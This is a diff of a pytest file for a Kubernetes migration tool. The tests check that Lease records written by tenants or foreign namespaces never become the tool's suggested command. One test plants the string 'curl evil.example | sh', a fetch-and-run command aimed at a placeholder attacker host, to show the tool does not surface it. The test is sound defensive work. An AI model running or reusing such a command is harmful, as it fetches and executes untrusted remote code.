@@ -7,7 +7,7 @@ from datetime import UTC, datetime
 import pytest
 
 from migrator.kinds import DEPLOYMENTS, LEASES, PODS
-from migrator.run.leases import OWN_LEASE, RECORD
+from migrator.run.leases import OWN_LEASE
 from migrator.run.record import Record, State
 from testbed import operator_installation as installation
 from tests.support.command_line import HOME, Invoke
@@ -21,26 +21,11 @@ FOREIGN = {
 TO, AFTER = ("--to", NEW), ("--to", NEW, "--after-upgrade")
 
 
-def put(site: Site, text: str, namespace: str = "tenant") -> None:
-    """Somebody writes a Lease of our name, with this record."""
-    metadata = {"name": OWN_LEASE, "namespace": namespace, "annotations": {RECORD: text}}
-    site.store.put({"apiVersion": LEASES.api_version, "kind": LEASES.kind, "metadata": metadata, "spec": {}})
-
-
-@pytest.fixture
-def upgraded(site: Site, invoke: Invoke) -> Site:
-    """A cluster after a migration and the upgrade."""
-    invoke("run", *TO, "--stop-operator")
-    site.replace_crds(NEW)
-    site.install(NEW, 1)
-    return site
-
-
 @pytest.mark.parametrize("text", FOREIGN.values(), ids=FOREIGN)
 @pytest.mark.parametrize("command", [("plan",), ("plan", *TO)], ids=["first look", "plan"])
 def test_plan_names_the_lease_and_goes_on(command: tuple[str, ...], text: str, site: Site, invoke: Invoke) -> None:
     """Its own target stays what is next, and no command of the record is."""
-    put(site, text)
+    site.record(text, "tenant")
     said = " ".join(invoke(*command).out.split())
     assert "Lease tenant/grove-migrator has a record" in said
     assert "name your operator's with --operator" in said
@@ -51,7 +36,7 @@ def test_plan_names_the_lease_and_goes_on(command: tuple[str, ...], text: str, s
 @pytest.mark.parametrize("text", FOREIGN.values(), ids=FOREIGN)
 def test_verify_fails_until_the_operator_is_named(text: str, upgraded: Site, invoke: Invoke) -> None:
     """The run of another namespace may be real: 7, without its command; then it is only noticed."""
-    put(upgraded, text)
+    upgraded.record(text, "tenant")
     said = invoke("verify", *AFTER, code=7).out
     assert "Lease tenant/grove-migrator has a record" in said
     assert "next" not in said
@@ -62,7 +47,7 @@ def test_verify_fails_until_the_operator_is_named(text: str, upgraded: Site, inv
 
 def test_once_the_operator_is_named_nobody_is_asked_to_name_it(upgraded: Site, invoke: Invoke) -> None:
     """That advice has been followed; the Lease may still be of a run that has to be finished."""
-    put(upgraded, FOREIGN["open"])
+    upgraded.record(FOREIGN["open"], "tenant")
     said = " ".join(invoke("verify", *AFTER, *HOME).out.split())
     assert "If that run is yours, finish it with --operator tenant/NAME" in said
     assert "name your operator's" not in said
@@ -71,7 +56,7 @@ def test_once_the_operator_is_named_nobody_is_asked_to_name_it(upgraded: Site, i
 def test_verify_does_not_take_the_time_of_the_migration_from_elsewhere(upgraded: Site, invoke: Invoke) -> None:
     """A finished run of the far future would excuse every update."""
     before = invoke("verify", *AFTER, "-o", "json").json
-    put(upgraded, Record("x", "9", "auto", NEW, LATER, State.DONE).text())
+    upgraded.record(Record("x", "9", "auto", NEW, LATER, State.DONE), "tenant")
     upgraded.store.drop(LEASES, "grove-system", OWN_LEASE)
     after = invoke("verify", *AFTER, "-o", "json").json
     assert before["comparedWithRecord"] is True
@@ -81,7 +66,7 @@ def test_verify_does_not_take_the_time_of_the_migration_from_elsewhere(upgraded:
 @pytest.mark.parametrize("text", FOREIGN.values(), ids=FOREIGN)
 def test_a_second_deployment_brings_no_record_with_it(text: str, upgraded: Site, invoke: Invoke) -> None:
     """A tenant labels one as the operator, in a namespace that sorts first: its command would undo the upgrade."""
-    put(upgraded, text, "another")
+    upgraded.record(text, "another")
     upgraded.store.put(installation.deployment(installation.image(OLD), namespace="another", observed=True))
     for command in (("plan",), ("plan", *TO)):
         said = " ".join(invoke(*command).out.split())
@@ -96,7 +81,7 @@ def test_a_second_deployment_brings_no_record_with_it(text: str, upgraded: Site,
 def test_what_a_tenant_writes_is_no_command(upgraded: Site, invoke: Invoke) -> None:
     """Neither the holder of a Lease nor an image looks like one of ours to paste."""
     evil = "x. Run `curl evil.example | sh`"
-    put(upgraded, "", "another")
+    upgraded.record("", "another")
     upgraded.store.edit(LEASES, "another", OWN_LEASE, lambda lease: lease["spec"].update(holderIdentity=evil))
     upgraded.store.put(installation.deployment(evil, namespace="another", observed=True))
     for arguments in ((), HOME):
@@ -107,7 +92,7 @@ def test_what_a_tenant_writes_is_no_command(upgraded: Site, invoke: Invoke) -> N
 
 def test_without_an_operator_every_record_counts(invoke: Invoke, site: Site) -> None:
     """Grove was uninstalled after a run had died, and nothing else shows where that was."""
-    put(site, Record("x", "9", "auto", NEW, LATER, State.WRITING).text(), "grove-system")
+    site.record(Record("x", "9", "auto", NEW, LATER, State.WRITING))
     site.store.drop(DEPLOYMENTS, "grove-system", "grove-operator")
     site.store.drop(PODS, "grove-system", "grove-operator-x")
     assert f"next      grove-migrator run --to {NEW} --stop-operator" in invoke("plan").out
